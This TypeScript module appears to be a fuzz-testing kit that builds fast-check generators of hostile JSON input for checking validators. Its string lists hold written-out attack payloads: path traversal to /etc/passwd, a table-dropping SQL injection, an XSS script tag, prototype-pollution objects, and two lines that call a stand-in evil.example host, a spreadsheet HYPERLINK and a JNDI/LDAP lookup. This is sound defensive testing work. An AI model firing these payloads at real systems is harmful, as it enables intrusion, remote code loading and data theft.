import fc from 'fast-check';
import { applyEdits, deepNest, hugeString, ownKeys, pathsOf, RawJson, type Edit } from './json-text.testkit';

/**
 * fast-check arbitraries of hostile input, for the boundary suites (HTTP, CLI, handlers): the
 * values that break naive validators. Each says what it generates; the named ones
 * (`NAMED_HOSTILE_VALUES`) are also run as fixed examples, so every seed covers them.
 */

/** Keys that reach the prototype chain or shadow Object.prototype methods. */
export const PROTOTYPE_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty'];

/** Edge numbers as JSON can carry them: huge, tiny, negative, beyond 2^53, and raw tokens JSON.stringify cannot write. */
export const EDGE_NUMBERS: readonly unknown[] = [
  0,
  -1,
  0.5,
  -0.5,
  1e30,
  -1e30,
  2 ** 53 + 2,
  -(2 ** 53) - 2,
  1e308,
  -1e308,
  5e-324,
  new RawJson('-0'),
  new RawJson('1e400'),
  new RawJson('-1e400'),
  new RawJson('1e-400'),
  new RawJson('123456789012345678901234567890'),
];

/** Text that reads as a number to a lax parser, or as NaN / Infinity. */
export const NUMBER_LIKE_TEXT = [
  'NaN',
  'Infinity',
  '-Infinity',
  '1e308',
  '1e30',
  '0x10',
  '12',
  '-0',
  ' 12 ',
  '1_000',
  '1,5',
  '+5',
  '.5',
  '1e',
  '１２',
  '١٢',
];

/** Text that attacks what stores or shows it: traversal, SQL, formulas, markup, invisible and odd code units. */
export const NASTY_TEXT = [
  '',
  ' ',
  '\t\n\r',
  '\u00a0\u3000',
  '\u0000',
  '\ud800',
  '\udfff',
  '\u200b',
  '\u202e',
  '\ufeff',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f',
  "'; DROP TABLE runs; --",
  '=HYPERLINK("http://evil.example")',
  '@SUM(A1)',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '中文',
  '👩‍👩‍👧',
  ...PROTOTYPE_KEYS,
];

/** Objects that would pollute Object.prototype if merged naively. */
export const POLLUTING_OBJECTS = [
  ownKeys([['__proto__', { polluted: true }]]),
  ownKeys([['constructor', { prototype: { polluted: true } }]]),
];

/** Every named hostile value, for fixed examples: each is sent on every run, whatever the seed. */
export const NAMED_HOSTILE_VALUES: readonly unknown[] = [
  null,
  true,
  false,
  ...EDGE_NUMBERS,
  ...NUMBER_LIKE_TEXT,
  ...NASTY_TEXT,
  hugeString(100_000),
  [],
  {},
  [1, 'two', null],
  ...POLLUTING_OBJECTS,
  deepNest(50, 'array'),
];

/** A single UTF-16 code unit, any of 65,536: control characters and lone surrogates included. */
const codeUnit = fc.integer({ min: 0, max: 0xffff }).map((n) => String.fromCharCode(n));
const controlChar = fc.integer({ min: 0, max: 0x1f }).map((n) => String.fromCharCode(n));
const whitespace = fc.constantFrom(' ', '\t', '\n', '\r', '\u000b', '\u00a0', '\u2028', '\u3000', '\ufeff');

/** Hostile text: the named kinds, or random strings of graphemes, raw code units, control characters or whitespace. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...NASTY_TEXT, ...NUMBER_LIKE_TEXT),
  fc.string({ unit: 'grapheme', maxLength: 24 }),
  fc.string({ unit: codeUnit, maxLength: 24 }),
  fc.string({ unit: controlChar, minLength: 1, maxLength: 8 }),
  fc.string({ unit: whitespace, maxLength: 8 }),
);

/** Hostile numbers: the edge ones, any double (finite), any 32-bit integer, a number written as text. */
export const hostileNumber: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(...EDGE_NUMBERS),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }).map(String),
);

/** A key an object might carry: a prototype key, a common field name, an odd or empty one. */
export const hostileKey: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...PROTOTYPE_KEYS, 'id', 'model', 'x', '', ' ', 'é'),
  fc.string({ unit: 'grapheme', maxLength: 12 }),
);

/** One hostile value that is not a container of generated values: a wrong type, an edge number, nasty text. */
export const hostileLeaf: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(null, true, false, [], {}, ...POLLUTING_OBJECTS),
  hostileNumber,
  hostileText,
  fc.integer({ min: 2, max: 200 }).map((levels) => deepNest(levels, 'array')),
);

/** Any JSON value, at most three levels deep, with hostile leaves and keys (objects may own `__proto__`). */
export const hostileJson: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { maxDepth: 3, depthIdentifier: 'hostile-json' },
    hostileLeaf,
    fc.array(tie('value'), { maxLength: 4 }),
    fc.array(fc.tuple(hostileKey, tie('value')), { maxLength: 4 }).map(ownKeys),
  ),
})).value;

/** An edit of a valid input: a value replaced by a hostile one, a key deleted, or an unknown key (or element) added. */
const edit: fc.Arbitrary<Edit> = fc.oneof(
  {
    weight: 6,
    arbitrary: fc.record({
      kind: fc.constant('replace' as const),
      at: fc.nat(),
      value: fc.oneof({ weight: 7, arbitrary: hostileLeaf }, { weight: 3, arbitrary: hostileJson }),
    }),
  },
  { weight: 2, arbitrary: fc.record({ kind: fc.constant('delete' as const), at: fc.nat() }) },
  {
    weight: 2,
    arbitrary: fc.record({ kind: fc.constant('add' as const), at: fc.nat(), key: hostileKey, value: hostileJson }),
  },
);

/**
 * Near misses: one of `valid` with one to three edits. May by chance still be valid (a
 * replaced number that fits, a deleted optional key): the caller checks with the contract.
 * Shrinks to fewer, simpler edits.
 */
export function mutantOf(valid: readonly unknown[]): fc.Arbitrary<unknown> {
  return fc
    .tuple(fc.constantFrom(...valid), fc.array(edit, { minLength: 1, maxLength: 3 }))
    .map(([base, edits]) => applyEdits(base, edits));
}

/** `base` with `replacement` put at one of its places (a field or an element; the whole if it has none). */
export function placedIn(base: unknown, replacement: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> {
  const inner = pathsOf(base).length - 1;
  return fc
    .tuple(fc.nat(), replacement)
    .map(([at, value]) => applyEdits(base, [{ kind: 'replace', at: inner > 0 ? 1 + (at % inner) : 0, value }]));
}
